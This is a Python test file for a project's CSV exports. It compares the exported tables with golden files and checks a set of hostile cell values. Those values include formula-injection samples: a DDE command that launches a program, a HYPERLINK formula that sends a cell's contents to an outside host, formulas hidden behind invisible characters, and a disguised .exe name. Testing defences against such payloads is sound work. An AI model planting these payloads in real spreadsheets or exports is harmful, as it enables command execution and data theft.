"""The tables of the archive as they stand in `data/<table>.csv`: what a reader finds when they open one in a spreadsheet.

`make golden` writes the files anew: read the difference before you commit it.
"""

from __future__ import annotations

from operator import itemgetter
from pathlib import Path

import pytest

from briefing.command.content import catalog_of
from briefing.exports.columns import Filled, table
from briefing.exports.csv_files import csv_file
from briefing.exports.table import Column
from briefing.exports.tables import TABLES

HERE = Path(__file__).parent / "data"
NAMES = ("incidents", "claims", "actors", "places", "sources")


@pytest.fixture(scope="module")
def files(harbour: Path) -> dict[str, bytes]:
    catalog = catalog_of(harbour)
    return {f"data/{name}.csv": b"".join(csv_file(table(catalog))) for name, table in TABLES.items()}


@pytest.mark.parametrize("name", NAMES)
def test_the_table_is_as_it_was(name: str, files: dict[str, bytes], is_rewriting: bool) -> None:
    raw = files[f"data/{name}.csv"]
    if is_rewriting:
        (HERE / f"{name}.csv").write_bytes(raw)
    assert raw.decode().split("\r\n") == (HERE / f"{name}.csv").read_bytes().decode().split("\r\n")


def test_every_table_has_a_golden_file(files: dict[str, bytes]) -> None:
    assert sorted(files) == sorted(f"data/{path.name}" for path in HERE.glob("*.csv")) == sorted(f"data/{name}.csv" for name in NAMES)


HOSTILE = {
    "a formula": "=1+1",
    "a command": "=cmd|' /C calc'!A0",
    "a function": "@SUM(A1:A9)",
    "a number of a telephone": "+963 11 000 0000",
    "a sum": "-1+1",
    "a number": "-5",
    "a formula in full-width letters": "＝1+1",
    "a formula behind a mark that cannot be seen": " \u200f=1+1",
    "a formula behind a tab": "\t=1+1",
    "a formula in the second line": "first line\n=1+1",
    "a formula behind a quotation mark and a comma": 'the "Guard",=1+1',
    "a formula behind a semicolon": "Guard; =1+1",
    "a formula behind an Arabic comma": "حرس، =1+1",
    "a formula behind an apostrophe": "'=1+1",
    "an address that takes what stands in a cell": '=HYPERLINK("https://harbour.example/?"&A1,"click")',
    "letters turned round": "\u202etxt.exe\u202c",
    "a hyphen and a dash": "al-Velmar – the port",
}
"""What a record may hold to do harm in a spreadsheet, and what only looks like it."""


def test_hostile_cells_are_as_they_were(is_rewriting: bool) -> None:
    columns = (Column("id", "string", "What it is."), Column("text", "string", "The cell."))
    filled = [Filled(column, itemgetter(number)) for number, column in enumerate(columns)]
    raw = b"".join(csv_file(table("hostile", "Hostile cells.", HOSTILE.items, filled)))
    kept = Path(__file__).parent / "hostile_cells.csv"
    if is_rewriting:
        kept.write_bytes(raw)
    assert raw.decode().split("\r\n") == kept.read_bytes().decode().split("\r\n")
